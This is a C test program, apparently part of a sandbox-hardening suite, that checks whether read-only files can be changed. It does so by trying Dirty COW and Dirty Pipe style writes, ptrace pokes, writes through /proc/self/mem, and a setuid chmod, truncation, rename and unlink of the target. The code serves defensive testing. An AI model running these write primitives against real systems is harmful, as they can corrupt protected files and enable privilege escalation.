/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Writes to files that it may only read, in the ways that Dirty COW and Dirty Pipe made known. A
 * copy of one's own may change; what a fresh open of the file shows may not.
 *	files FILE...
 */
#include "B-doors.h"
#include <pthread.h>
#include <signal.h>
#include <sys/mman.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/uio.h>

#define TEXT "DIRTYDIRTYDIRTY"
#define ROUNDS 2000

static const char *path;
static char original[4096];
static ssize_t original_len;
static char *mapped;

static ssize_t load(char *buf, size_t size)
{
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	ssize_t n = read(fd, buf, size);

	close(fd);
	return n;
}

static void unchanged(const char *name)
{
	char now[sizeof(original)];
	int same = load(now, sizeof(now)) == original_len &&
		   !memcmp(now, original, (size_t)original_len);

	door_if(name, !same, path);
}

static char *map(int flags)
{
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	char *p = mmap(NULL, sizeof(original), PROT_READ, flags, fd, 0);

	close(fd);
	return p;
}

static void write_memory(void *at)
{
	int fd = open("/proc/self/mem", O_RDWR | O_CLOEXEC);

	if (fd >= 0 && pwrite(fd, TEXT, sizeof(TEXT), (off_t)at) < 0)
		errno = 0; /* whether it may is not the question */
	close(fd);
}

static void try_memory(const char *name, int flags)
{
	char *p = map(flags);
	struct iovec here = {TEXT, sizeof(TEXT)}, there = {p, sizeof(TEXT)};

	write_memory(p);
	process_vm_writev(getpid(), &here, 1, &there, 1, 0);
	if (flags == MAP_SHARED && mprotect(p, sizeof(original), PROT_READ | PROT_WRITE) == 0)
		memcpy(p, TEXT, sizeof(TEXT));
	munmap(p, sizeof(original));
	unchanged(name);
}

static void *discard(void *unused)
{
	for (int i = 0; i < ROUNDS; i++)
		madvise(mapped, sizeof(original), MADV_DONTNEED);
	return unused;
}

static void try_race(void)
{
	pthread_t thread;
	int fd = open("/proc/self/mem", O_RDWR | O_CLOEXEC);

	mapped = map(MAP_PRIVATE);
	if (pthread_create(&thread, NULL, discard, NULL))
		return;
	for (int i = 0; i < ROUNDS && fd >= 0; i++)
		if (pwrite(fd, TEXT, sizeof(TEXT), (off_t)mapped) < 0)
			break;
	pthread_join(thread, NULL);
	close(fd);
	munmap(mapped, sizeof(original));
	unchanged("cow-race");
}

/* A pipe whose buffers may all be merged into; then one holds a page of the file. */
static void try_pipe(void)
{
	static char full[65536];
	int pipes[2], fd = open(path, O_RDONLY | O_CLOEXEC);
	loff_t offset = 0;

	if (pipe(pipes) || write(pipes[1], full, sizeof(full)) < 0 ||
	    read(pipes[0], full, sizeof(full)) < 0)
		return;
	if (splice(fd, &offset, pipes[1], NULL, 1, 0) == 1 &&
	    write(pipes[1], TEXT, sizeof(TEXT)) < 0)
		errno = 0;
	close(pipes[0]);
	close(pipes[1]);
	close(fd);
	unchanged("pipe");
}

static void try_tracer(void)
{
	int status = 0;
	pid_t pid;

	mapped = map(MAP_PRIVATE);
	pid = fork();
	if (pid == 0) {
		ptrace(PTRACE_TRACEME, 0, 0, 0);
		raise(SIGSTOP);
		_exit(0);
	}
	waitpid(pid, &status, 0);
	ptrace(PTRACE_POKEDATA, pid, mapped, 0x595452494441L);
	ptrace(PTRACE_CONT, pid, 0, 0);
	waitpid(pid, &status, 0);
	munmap(mapped, sizeof(original));
	unchanged("tracer");
}

/* The plain ways. Those that succeed are on a copy in the sandbox's own layer. */
static void try_plain(void)
{
	char link[64];
	int fd = open(path, O_RDONLY | O_CLOEXEC), again;

	snprintf(link, sizeof(link), "/proc/self/fd/%d", fd);
	again = open(link, O_RDWR | O_CLOEXEC);
	if (again >= 0 && write(again, TEXT, sizeof(TEXT)) < 0)
		errno = 0;
	if (ftruncate(fd, 1) == 0 || truncate(path, 1) == 0 || chmod(path, 04777) == 0 ||
	    rename(path, "/tmp/moved") == 0 || unlink(path) == 0)
		errno = 0;
	close(again);
	close(fd);
}

int main(int argc, char **argv)
{
	for (int i = 1; i < argc; i++) {
		path = argv[i];
		original_len = load(original, sizeof(original));
		if (original_len <= 0)
			return 2;
		try_memory("private-mapping", MAP_PRIVATE);
		try_memory("shared-mapping", MAP_SHARED);
		try_race();
		try_pipe();
		try_tracer();
		try_plain();
	}
	return 0;
}
